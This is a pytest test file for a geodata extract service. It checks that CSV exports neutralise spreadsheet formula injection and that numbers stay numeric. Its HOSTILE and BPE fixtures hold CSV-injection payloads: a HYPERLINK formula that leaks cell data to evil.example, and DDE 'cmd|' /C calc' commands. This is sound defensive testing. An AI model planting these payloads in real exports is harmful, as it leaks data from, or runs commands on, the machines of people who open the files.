"""CSV extracts neutralise formula injection (``atlas.extracts.writers.neutralised``), read back.

OWASP's "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is run as a formula by spreadsheets, so text cells starting so are written with a leading
``'``; numeric columns are written as numbers (a negative amount stays a number). Read back with
Python's csv module (what a spreadsheet sees) and with GDAL through the ``.vrt`` and ``.csvt``;
then end to end, through ingest, the gate and the extract job, on both stores.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely
from fastapi.testclient import TestClient

from atlas.api.app import create_app
from atlas.extracts.request import CsvGeometry, ExtractFormat, OutputOptions
from atlas.extracts.writers import FORMULA_TRIGGERS, OutLayer, write_layers
from atlas.ingest import ingest_path
from atlas.policy.tiers import Tier
from atlas.query.crs import parse_crs
from atlas.stores import open_store
from tests.conftest import STORE_KINDS, settings_for
from tests.extracts.helpers import run

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"clic")',
    "+33 1 60 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Parc de l'Aunette", "a=b", "", None, "'déjà cité", "1-2"]


def _layer() -> OutLayer:
    names = HOSTILE + PLAIN
    n = len(names)
    frame = gpd.GeoDataFrame(
        {
            "id": [f"id-{i:02d}" for i in range(n)],
            "name": pd.Series(names, dtype=object),
            "amount": pd.array([-12.5 * (i + 1) if i % 2 else None for i in range(n)], "Float64"),
            "delta": pd.array([-i for i in range(n)], dtype="Int64"),
        },
        geometry=[shapely.Point(655_000 + i, 6_835_000 + i) for i in range(n)],
        crs="EPSG:2154",
    )
    return OutLayer("hostile", "Point", "id", frame)


def _options(geometry: CsvGeometry, fmt: ExtractFormat = ExtractFormat.CSV) -> OutputOptions:
    return OutputOptions(fmt, parse_crs("EPSG:2154"), geometry)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("geometry", list(CsvGeometry))
def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, geometry):
    layer = _layer()
    write_layers([layer], _options(geometry), tmp_path)
    rows = _rows(tmp_path / "hostile.csv")
    assert [r["id"] for r in rows] == list(layer.frame["id"])
    for row, name, amount, delta in zip(
        rows, layer.frame["name"], layer.frame["amount"], layer.frame["delta"], strict=True
    ):
        if name in HOSTILE:
            assert row["name"] == "'" + name  # the spreadsheet shows it as text
        else:
            assert row["name"] == ("" if name is None else name)
        assert not row["name"].startswith(FORMULA_TRIGGERS)
        # Numbers are written as numbers: no quote, and they read back equal, signs kept.
        assert row["delta"] == str(delta) and float(row["delta"]) <= 0
        assert (row["amount"] == "") if pd.isna(amount) else float(row["amount"]) == amount
    assert any(r["amount"].startswith("-") for r in rows)  # negatives were really written
    # GDAL reads the same through the .vrt and .csvt: typed numbers, text with its quote.
    read = pyogrio.read_dataframe(tmp_path / "hostile.vrt")
    assert read["delta"].dtype.kind == "i" and read["amount"].dtype.kind == "f"
    assert (read["delta"].to_numpy() == layer.frame["delta"].to_numpy()).all()

    def lines(text: str) -> str:  # GDAL's CSV reader turns a CR inside a cell into LF
        return text.replace("\r", "\n")

    assert {lines(v) for v in read["name"].dropna()} >= {lines("'" + h) for h in HOSTILE}
    assert read.crs.to_epsg() == 2154 and len(read) == len(layer.frame)


def test_other_formats_keep_the_text_as_it_is(tmp_path):
    """Only CSV is opened by spreadsheets as formulas: GeoJSON keeps the data unchanged."""
    layer = _layer()
    write_layers([layer], _options(CsvGeometry.WKT, ExtractFormat.GEOJSON), tmp_path)
    read = pyogrio.read_dataframe(tmp_path / "hostile.geojson")
    assert set(read["name"].dropna()) >= set(HOSTILE)


# A BPE extract whose names a careless or hostile data officer typed: ingested like any file.
BPE_HEADER = ["DEPCOM", "DCIRIS", "AN", "TYPEQU", "LAMBERT_X", "LAMBERT_Y", "QUALITE_XY", "NOMRS"]
BPE_NAMES = {
    "D201": '=HYPERLINK("http://evil.example/?"&A2,"Dr X")',
    "D301": "+33 1 60 00 00 00",
    "C201": "-1+1",
    "F307": "@SUM(1+1)",
    "A203": "Cabinet Martin",
}


@pytest.fixture(params=STORE_KINDS, scope="module")
def bpe_served(request, tmp_path_factory) -> Iterator[SimpleNamespace]:
    """The hostile BPE ingested into each store and served, with an internal key."""
    root = tmp_path_factory.mktemp("csv-formulas")
    source = root / "bpe_hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(BPE_HEADER)
        for i, (typequ, name) in enumerate(BPE_NAMES.items()):
            x, y = 657_105.12 + 40 * i, 6_838_532.40 + 25 * i
            writer.writerow(["91228", f"=9122{i}", "2020", typequ, x, y, "Bonne", name])
    lifecycle = settings_for(request.param, root / "data")
    settings = next(lifecycle)
    store = open_store(settings.store)
    try:
        ingest_path(store, "services", source, settings=settings, progress=False)
    finally:
        store.close()
    app = create_app(settings)
    try:
        with TestClient(app) as client:
            _, key = app.state.keys.create(tier=Tier.INTERNAL, name="csv formulas")
            yield SimpleNamespace(
                client=client, headers={Tier.INTERNAL: {"Authorization": f"Bearer {key}"}}
            )
    finally:
        next(lifecycle, None)


@pytest.mark.parametrize("geometry", ["wkt", "xy"])
def test_an_extract_of_hostile_names_reads_back_neutralised(bpe_served, tmp_path, geometry):
    body = {"collections": ["services"], "format": "csv", "csv-geometry": geometry}
    job = run(bpe_served, Tier.INTERNAL, body, tmp_path)
    rows = _rows(job.files / "services.csv")
    assert sorted(r["NOMRS"] for r in rows) == sorted(
        "'" + n if n.startswith(FORMULA_TRIGGERS) else n for n in BPE_NAMES.values()
    )
    assert {r["DCIRIS"] for r in rows} == {f"'=9122{i}" for i in range(len(BPE_NAMES))}
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values()), row
        assert float(row["LAMBERT_X"]) > 0 and row["AN"] == "2020"  # numbers as numbers
    readme = (job.files / "LISEZMOI-README.txt").read_text(encoding="utf-8")
    assert "apostrophe (')" in readme and "formule" in readme and "formula" in readme
